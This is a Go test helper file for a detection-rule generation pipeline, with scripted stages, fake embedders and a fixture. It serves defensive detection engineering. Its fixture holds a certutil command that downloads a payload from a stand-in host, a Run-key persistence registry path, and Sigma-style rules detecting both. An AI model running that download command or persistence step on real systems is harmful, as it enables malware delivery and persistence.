package services

import (
	"context"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/custodia-labs/ruleforge/internal/adapters/driven/storage/memory"
	"github.com/custodia-labs/ruleforge/internal/adapters/driven/vectorindex/flat"
	"github.com/custodia-labs/ruleforge/internal/core/domain"
	"github.com/custodia-labs/ruleforge/internal/core/ports/driven"
	"github.com/custodia-labs/ruleforge/internal/core/stages"
)

// --- Scripted stages ---

// step is one scripted attempt.
type step struct {
	out   domain.StageOutput
	conf  *float64
	err   error
	block bool // wait for cancellation instead of answering
}

func ok(conf float64, items ...string) step {
	return step{out: domain.StageOutput{Items: items, Count: len(items)}, conf: domain.Float(conf)}
}

func okNoConf(items ...string) step {
	return step{out: domain.StageOutput{Items: items, Count: len(items)}}
}

func bad(msg string) step {
	return step{err: domain.Malformed("%s", msg)}
}

func unavailable() step {
	return step{err: domain.ErrProviderUnavailable}
}

// scriptStage answers attempts from a script; the last step repeats.
type scriptStage struct {
	kind    domain.StageKind
	onCall  func()
	mu      sync.Mutex
	steps   []step
	inputs  []stages.Input
	applied []domain.StageParams
}

func script(kind domain.StageKind, steps ...step) *scriptStage {
	return &scriptStage{kind: kind, steps: steps}
}

func (s *scriptStage) Kind() domain.StageKind { return s.kind }

func (s *scriptStage) Execute(ctx context.Context, in stages.Input, params domain.StageParams) (stages.Result, error) {
	s.mu.Lock()
	i := len(s.inputs)
	s.inputs = append(s.inputs, in)
	s.applied = append(s.applied, params)
	st := step{}
	if len(s.steps) > 0 {
		st = s.steps[min(i, len(s.steps)-1)]
	}
	onCall := s.onCall
	s.mu.Unlock()

	if onCall != nil {
		onCall()
	}
	if st.block {
		<-ctx.Done()
		return stages.Result{}, ctx.Err()
	}
	return stages.Result{Output: st.out, Confidence: st.conf}, st.err
}

func (s *scriptStage) calls() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.inputs)
}

func (s *scriptStage) input(i int) stages.Input {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.inputs[i]
}

const certutilRule = `title: Certutil URL cache download
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains: '-urlcache'
  condition: selection`

const runKeyRule = `title: Run key persistence
detection:
  selection:
    TargetObject|contains: '\CurrentVersion\Run'
  condition: selection`

// --- Embedding and index fakes ---

// fakeEmbedder maps text to a vector by keyword; unmatched text gets fallback.
type fakeEmbedder struct {
	model    string
	dims     int
	keywords map[string][]float32
	fallback []float32
	err      error

	mu         sync.Mutex
	batchCalls int
	embedded   []string
}

func newFakeEmbedder() *fakeEmbedder {
	return &fakeEmbedder{
		model:    "fake-v1",
		dims:     2,
		keywords: map[string][]float32{},
		fallback: []float32{0, 1},
	}
}

func (f *fakeEmbedder) vector(text string) []float32 {
	for kw, vec := range f.keywords {
		if strings.Contains(text, kw) {
			return vec
		}
	}
	return f.fallback
}

func (f *fakeEmbedder) Embed(_ context.Context, text string) ([]float32, error) {
	if f.err != nil {
		return nil, f.err
	}
	f.mu.Lock()
	f.embedded = append(f.embedded, text)
	f.mu.Unlock()
	return f.vector(text), nil
}

func (f *fakeEmbedder) EmbedBatch(_ context.Context, texts []string) ([][]float32, error) {
	if f.err != nil {
		return nil, f.err
	}
	f.mu.Lock()
	f.batchCalls++
	f.embedded = append(f.embedded, texts...)
	f.mu.Unlock()
	out := make([][]float32, len(texts))
	for i, t := range texts {
		out[i] = f.vector(t)
	}
	return out, nil
}

func (f *fakeEmbedder) Dimensions() int              { return f.dims }
func (f *fakeEmbedder) ModelName() string            { return f.model }
func (f *fakeEmbedder) Ping(_ context.Context) error { return nil }
func (f *fakeEmbedder) Close() error                 { return nil }

// stubIndex returns fixed hits regardless of the query.
type stubIndex struct {
	hits []driven.VectorHit
	err  error
}

func (s *stubIndex) Search(_ context.Context, _ []float32, k int, floor float64) ([]driven.VectorHit, error) {
	if s.err != nil {
		return nil, s.err
	}
	var out []driven.VectorHit
	for _, h := range s.hits {
		if h.Similarity >= floor {
			out = append(out, h)
		}
	}
	if len(out) > k {
		out = out[:k]
	}
	return out, nil
}

func (s *stubIndex) Add(_ context.Context, _ ...domain.Reference) error { return nil }
func (s *stubIndex) Delete(_ context.Context, _ string) error           { return nil }
func (s *stubIndex) Len() int                                           { return len(s.hits) }
func (s *stubIndex) Dimensions() int                                    { return 2 }
func (s *stubIndex) Close() error                                       { return nil }

// --- Pipeline fixture ---

type fixture struct {
	stages   map[domain.StageKind]*scriptStage
	set      *stages.Set
	versions *memory.ConfigVersionStore
	configs  *ConfigService
	runs     *memory.RunStore
	refs     *memory.ReferenceStore
	queue    *memory.ReviewQueue
	embedder *fakeEmbedder
	index    *flat.Index
	sim      *SimilarityService
	orch     *Orchestrator
	version  int64
}

// newFixture saves params as the pinned version and scripts every stage to
// pass. Tests re-script individual stages before submitting.
func newFixture(t *testing.T, params domain.PipelineParams) *fixture {
	t.Helper()
	f := &fixture{
		stages:   map[domain.StageKind]*scriptStage{},
		set:      stages.NewSet(nil),
		versions: memory.NewConfigVersionStore(),
		runs:     memory.NewRunStore(),
		refs:     memory.NewReferenceStore(),
		queue:    memory.NewReviewQueue(),
		embedder: newFakeEmbedder(),
		index:    flat.New(2),
	}
	f.script(script(domain.StageEnvironmentDetection, ok(0.9, "windows")))
	f.script(script(domain.StageRelevanceFilter, ok(0.9)))
	f.script(script(domain.StageRanking, ok(0.9)))
	f.script(script(domain.AgentCommandLine, ok(0.8, "certutil.exe -urlcache -split -f http://x/p.bin")))
	f.script(script(domain.AgentProcessLineage, ok(0.8, "winword.exe -> cmd.exe -> certutil.exe")))
	f.script(script(domain.AgentRegistry, ok(0.8, `HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd`)))
	f.script(script(domain.AgentObservables, ok(0.8, "http://x/p.bin")))
	f.script(script(domain.AgentHuntQueries, ok(0.8, "process.name:certutil.exe")))
	f.script(script(domain.StageRuleGeneration, ok(0.8, certutilRule, runKeyRule)))

	f.configs = NewConfigService(f.versions, nil)
	f.sim = NewSimilarityService(f.embedder, f.index, f.refs)
	f.orch = NewOrchestrator(f.configs, f.set, NewQAEngine(nil), f.sim, f.runs, f.queue, nil)

	id, err := f.configs.Save(context.Background(), params, "test")
	require.NoError(t, err)
	f.version = id
	return f
}

func (f *fixture) script(s *scriptStage) {
	f.stages[s.kind] = s
	f.set.Replace(s)
}

func (f *fixture) submit(t *testing.T) *domain.PipelineRun {
	t.Helper()
	run, err := f.orch.Submit(context.Background(), domain.ContentItem{ID: "post-1", Text: "APT report"}, f.version)
	require.NoError(t, err)
	return run
}

// stored reloads a run from the run store.
func (f *fixture) stored(t *testing.T, id string) *domain.PipelineRun {
	t.Helper()
	run, err := f.runs.GetRun(context.Background(), id)
	require.NoError(t, err)
	return run
}

// testParams returns the defaults with QA on every model stage and no timeouts.
func testParams() domain.PipelineParams {
	p := domain.DefaultPipelineParams()
	for kind, sp := range p.Stages {
		sp.TimeoutSeconds = 0
		p.Stages[kind] = sp
	}
	p.Similarity.TimeoutSeconds = 0
	return p
}

func withStage(p domain.PipelineParams, kind domain.StageKind, edit func(*domain.StageParams)) domain.PipelineParams {
	sp := p.Stages[kind]
	edit(&sp)
	p.Stages[kind] = sp
	return p
}

// statuses lists stage:status pairs of a run's history in order.
func statuses(run *domain.PipelineRun) []string {
	out := make([]string, len(run.Executions))
	for i, e := range run.Executions {
		out[i] = string(e.Stage) + ":" + string(e.Status)
	}
	return out
}
